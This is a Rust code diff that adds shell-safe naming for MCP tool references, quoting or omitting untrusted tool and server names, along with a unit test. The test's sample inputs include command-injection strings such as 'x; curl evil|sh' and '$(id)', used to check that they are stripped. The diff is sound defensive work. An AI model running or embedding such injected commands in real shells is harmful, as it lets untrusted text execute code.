@@ -5,6 +5,8 @@ use std::fmt;
 use serde::{Deserialize, Serialize};
 use serde_json::{Map, Value};
 
+use crate::hidden::shown_name;
+
 /// The exact identity of a tool: both names spelled as configured and served.
 #[derive(Clone, Debug, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
 pub struct ToolRef {
@@ -26,12 +28,25 @@ impl ToolRef {
         let name = name.strip_prefix("mcp__").unwrap_or(name);
         name.split_once("__").or_else(|| name.split_once('.')).or_else(|| name.split_once('/'))
     }
+
+    /// How to name it in a command that somebody will copy to a shell: a stranger wrote
+    /// the tool's name, so that one is left out, and only its server named, if a shell
+    /// could see more in it than a name.
+    pub fn in_a_command(&self) -> String {
+        let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.');
+        match (self.server.chars().all(plain), self.tool.chars().all(plain)) {
+            (true, true) => self.to_string(),
+            (true, false) => self.server.clone(),
+            (false, _) => format!("'{}'", self.server.replace('\'', r"'\''")),
+        }
+    }
 }
 
-/// Prints as `server__tool`, the spelling that `callMCPTool` takes.
+/// Prints as `server__tool`, the spelling that `callMCPTool` takes. What cannot be
+/// seen in a tool's name is an escape there; the catalog knows that spelling too.
 impl fmt::Display for ToolRef {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        write!(f, "{}__{}", self.server, self.tool)
+        write!(f, "{}__{}", self.server, shown_name(&self.tool))
     }
 }
 
@@ -106,4 +121,19 @@ pub struct ToolCall {
     pub tool: ToolRef,
     /// Its arguments.
     pub arguments: Map<String, Value>,
+}
+
+#[cfg(test)]
+mod tests {
+    use super::ToolRef;
+
+    #[test]
+    fn a_stranger_writes_nothing_into_a_command() {
+        let named = |server: &str, tool: &str| ToolRef::new(server, tool).in_a_command();
+        assert_eq!(named("git", "git_log-1.0"), "git__git_log-1.0");
+        for tool in ["x; curl evil|sh", "$(id)", "`id`", "a b", "x\u{200b}", "x\ny", "'"] {
+            assert_eq!(named("git", tool), "git");
+        }
+        assert_eq!(named("GitHub (it's mine)", "x"), r"'GitHub (it'\''s mine)'");
+    }
 }
